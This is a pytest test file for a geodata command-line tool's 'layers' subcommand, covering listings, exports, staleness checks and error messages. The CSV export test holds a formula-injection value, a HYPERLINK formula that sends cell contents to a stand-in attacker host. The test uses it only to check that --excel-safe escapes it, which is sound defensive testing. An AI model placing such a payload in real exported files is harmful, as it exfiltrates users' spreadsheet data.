"""Tests of the ``flankmap layers`` subcommand: listing, tables, exports and ``layers check``."""

import csv
import json

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest

from geo import _data, layers
from geo.cli import main


def test_layers_lists_every_layer(mini_layers, capsys):
    assert main(["layers"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split() == ["layer", "title", "features", "dates"]
    assert out[2].startswith("east")
    assert "2003..2022-04" in out[2]
    assert out[3].startswith("west")


def test_layers_name_prints_a_table(mini_layers, capsys):
    assert main(["layers", "west"]) == 0
    out = capsys.readouterr().out
    assert "west-md" in out
    assert "54.5000,17.0000" in out


def test_layers_geojson(mini_layers, capsys):
    assert main(["layers", "east", "--geojson", "--as-of", "2021-10-20"]) == 0
    collection = json.loads(capsys.readouterr().out)
    assert [f["properties"]["id"] for f in collection["features"]] == ["east-radar"]


def test_unknown_layer_is_one_line_and_exit_2(mini_layers, capsys):
    assert main(["layers", "nope"]) == 2
    err = capsys.readouterr().err
    assert err == "flankmap: error: no layer named 'nope'; layers: east, west\n"


def test_bad_as_of(mini_layers, capsys):
    assert main(["layers", "east", "--as-of", "2021-10"]) == 2
    assert "is not a date of the form YYYY-MM-DD" in capsys.readouterr().err


def test_layer_options_without_a_name_are_not_ignored(mini_layers, capsys):
    for option in (["--as-of", "x"], ["--as-of", "2021-10-20"], ["--geojson"]):
        assert main(["layers", *option]) == 2
        captured = capsys.readouterr()
        assert captured.out == ""
        assert captured.err.startswith("flankmap: error: --as-of and --geojson need a layer name")


def test_invalid_layer_file_exit_2(tmp_path, monkeypatch, write_layer, feature, capsys):
    feature["properties"]["since"] = "soon"
    write_layer([feature], name="bad")
    monkeypatch.setenv("FLANKMAP_LAYERS_DIR", str(tmp_path))
    assert main(["layers"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "bad.geojson: feature test-site: field 'since'" in err


def test_hostile_layer_table_and_geojson(hostile_layers, hostile_corpus, capsys, raw_control):
    assert main(["layers", "hostile"]) == 0
    table = capsys.readouterr().out
    assert not raw_control.search(table)
    assert "\\x1b[31m" in table
    assert main(["layers", "hostile", "--geojson"]) == 0
    text = capsys.readouterr().out
    assert not raw_control.search(text)
    names = [f["properties"]["name"] for f in json.loads(text)["features"]]
    assert names == [t for _, t in hostile_corpus]  # the same data, escaped only as JSON


def _v2_layer(write_layer, feature, verified: dict[str, str], name: str = "maintained") -> None:
    features = []
    for fid, day in verified.items():
        item = json.loads(json.dumps(feature))
        item["properties"].update(
            id=fid,
            name=f"Site {fid}",
            confidence="confirmed",
            last_verified=day,
            since_basis="activation",
            coord_basis="facility",
        )
        for source in item["properties"]["sources"]:
            source.update(type="press", language="en")
        features.append(item)
    write_layer(features, name=name)


def test_layers_check_lists_the_stale_features_oldest_first(tmp_path, write_layer, feature, capsys):
    verified = {"fresh": "2026-06-01", "old": "2025-12-01", "older": "2024-11-30"}
    _v2_layer(write_layer, feature, verified)
    assert main(["layers", "check", str(tmp_path), "--as-of", "2026-12-02"]) == 0
    captured = capsys.readouterr()
    assert captured.err == ""
    lines = captured.out.splitlines()
    assert lines[0] == (
        f"{tmp_path}: valid; 2 feature(s) last verified more than a year before 2026-12-02, "
        "oldest first:"
    )
    assert lines[1].split() == ["layer", "id", "name", "last_verified", "age"]
    assert lines[3].split() == ["maintained", "older", "Site", "older", "2024-11-30", "732", "days"]
    assert lines[4].split() == ["maintained", "old", "Site", "old", "2025-12-01", "366", "days"]
    assert len(lines) == 5


def test_layers_check_strict_makes_stale_features_exit_1(tmp_path, write_layer, feature, capsys):
    _v2_layer(write_layer, feature, {"old": "2025-01-01"})
    argv = ["layers", "check", str(tmp_path), "--as-of", "2026-12-02"]
    assert main([*argv, "--strict"]) == 1
    captured = capsys.readouterr()
    assert "old" in captured.out
    assert captured.err == "flankmap: 1 feature(s) due for a new check (--strict)\n"
    assert main(["layers", "check", str(tmp_path), "--as-of", "2025-06-01", "--strict"]) == 0
    assert capsys.readouterr().out == (
        f"{tmp_path}: valid; every feature was verified in the year before 2025-06-01\n"
    )


def test_layers_check_of_an_invalid_folder_is_one_line_exit_2(
    tmp_path, write_layer, feature, capsys
):
    write_layer([feature], name="old_style")  # schema v1: no confidence, no last_verified
    assert main(["layers", "check", str(tmp_path)]) == 2
    assert capsys.readouterr().err == (
        "flankmap: error: old_style.geojson: feature test-site: field 'confidence': is missing "
        "(missing: confidence, last_verified, since_basis, coord_basis)\n"
    )
    assert main(["layers", "check", str(tmp_path), "--lenient", "--as-of", "2026-12-02"]) == 0
    assert "old_style  test-site  Test site  -              never" in capsys.readouterr().out
    assert main(["layers", "check", str(tmp_path / "nowhere")]) == 2
    assert capsys.readouterr().err == (
        f"flankmap: error: {tmp_path / 'nowhere'} is not a folder of layer files\n"
    )
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["layers", "check", str(empty)]) == 2
    assert "holds no layer files (*.geojson)" in capsys.readouterr().err


def test_layers_check_defaults_to_the_layers_in_use(capsys):
    assert main(["layers", "check"]) == 0
    assert capsys.readouterr().out.startswith(f"{_data.layers_dir()}: valid; ")


def test_layers_check_options_belong_to_check(mini_layers, capsys):
    assert main(["layers", "east", "extra"]) == 2
    assert "to check a folder: flankmap layers check DIR" in capsys.readouterr().err
    assert main(["layers", "east", "--strict"]) == 2
    assert "options of: flankmap layers check [DIR]" in capsys.readouterr().err
    assert main(["layers", "check", "--geojson"]) == 2
    assert "--geojson shows one layer" in capsys.readouterr().err
    assert main(["layers", "east"]) == 0  # a layer name still shows the layer
    assert "east-radar" in capsys.readouterr().out


def _one_error_line(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("flankmap: error: ")
    return lines[0].removeprefix("flankmap: error: ")


@pytest.mark.parametrize("fmt", ["geojson", "csv", "parquet"])
def test_layers_in_the_other_formats_read_back(fmt, tmp_path, every_layer, capsys):
    out = tmp_path / f"all.{fmt}"
    assert main(["layers", "-o", str(out)]) == 0
    assert capsys.readouterr().out == f"wrote {out} ({len(every_layer)} features)\n"
    if fmt == "parquet":
        back = gpd.read_parquet(out)
    elif fmt == "csv":
        with out.open(encoding="utf-8", newline="") as handle:
            back = pd.DataFrame(list(csv.DictReader(handle)))
    else:
        back = pyogrio.read_dataframe(out)
    assert back["id"].tolist() == every_layer["id"].tolist()
    assert back["layer"].tolist() == every_layer["layer"].tolist()
    assert back["since"].tolist() == every_layer["since"].tolist()
    if fmt == "csv":
        assert [json.loads(v) for v in back["sources"]] == list(every_layer["sources"])
        assert back["coord_uncertainty_m"].tolist() == [
            str(v) for v in every_layer["coord_uncertainty_m"]
        ]


def test_layer_csv_handles_formula_cells(hostile_layers, tmp_path, capsys):
    out = tmp_path / "h.csv"
    assert main(["layers", "hostile", "-o", str(out)]) == 0
    assert "--excel-safe" in capsys.readouterr().err
    safe = tmp_path / "safe.csv"
    assert main(["layers", "hostile", "-o", str(safe), "--excel-safe"]) == 0
    with safe.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = [r["name"] for r in rows]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
    assert "'@SUM(1+1)" in names
    assert json.loads(rows[0]["aliases"]) == [rows[0]["notes"]]


def test_one_layer_by_name_with_a_format_that_is_not_the_suffix(tmp_path):
    out = tmp_path / "efp.dat"
    assert main(["layers", "nato_efp", "--format", "fgb", "-o", str(out)]) == 0
    assert out.read_bytes()[:3] == b"fgb"
    back = pyogrio.read_dataframe(out)
    assert back["layer"].unique().tolist() == ["nato_efp"]
    assert back["id"].tolist() == layers.load_layer("nato_efp")["id"].tolist()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["-o", "{tmp}/out.shp"],
            "out.shp: unknown output type '.shp'; use .csv, .geojson, .parquet, .gpkg, .fgb, "
            ".kml, .kmz",
        ),
        (
            ["-o", "{tmp}/out.kml", "--format", "xlsx"],
            "unknown format 'xlsx'; use csv, geojson, parquet, gpkg, fgb, kml, kmz",
        ),
        (
            ["--format", "kml"],
            "--format needs -o FILE: flankmap layers [NAME] --format kmz -o FILE",
        ),
        (
            ["nato_efp", "--geojson", "-o", "{tmp}/x.geojson"],
            "give --geojson (print) or -o FILE (write), not both",
        ),
        (
            ["-o", "{tmp}/nowhere/x.kml"],
            "output folder '{tmp}/nowhere' does not exist; create it first",
        ),
        (["-o", "{tmp}/x.kml", "--as-of", "2020-13-01"], None),
        (
            ["check", "-o", "{tmp}/x.kml"],
            "-o and --format export layers: flankmap layers [NAME] -o FILE",
        ),
    ],
)
def test_layers_export_errors_are_one_line(args, message, tmp_path, capsys):
    before = sorted(tmp_path.iterdir())
    assert main(["layers", *[a.format(tmp=tmp_path) for a in args]]) == 2
    line = _one_error_line(capsys)
    if message is not None:
        assert line == message.format(tmp=tmp_path)
    else:
        assert "2020-13-01" in line
    assert sorted(tmp_path.iterdir()) == before


def test_unknown_layer_is_one_line(tmp_path, capsys):
    assert main(["layers", "no_such_layer", "-o", str(tmp_path / "x.kmz")]) == 2
    assert _one_error_line(capsys).startswith("no layer named 'no_such_layer'")
    assert list(tmp_path.iterdir()) == []


def test_an_export_never_overwrites_a_layer_file(hostile_layers, capsys):
    source = hostile_layers / "hostile.geojson"
    before = source.read_bytes()
    assert main(["layers", "-o", str(source)]) == 2
    assert (
        _one_error_line(capsys)
        == f"output {str(source)!r} would overwrite the input {str(source)!r}"
    )
    assert source.read_bytes() == before


def test_an_export_to_a_stream_says_so_on_stderr(tmp_path, capfd, fifo_reader):
    """-o /dev/stdout (or any FIFO or device): the file alone on stdout, the message on stderr."""
    fifo, got, reader = fifo_reader(tmp_path)
    assert main(["layers", "nato_efp", "--format", "kml", "-o", str(fifo)]) == 0
    reader.join(10)
    out, err = capfd.readouterr()
    assert out == ""
    assert err == f"wrote {fifo} ({len(layers.load_layer('nato_efp'))} features)\n"
    assert got[0].rstrip().endswith(b"</kml>")
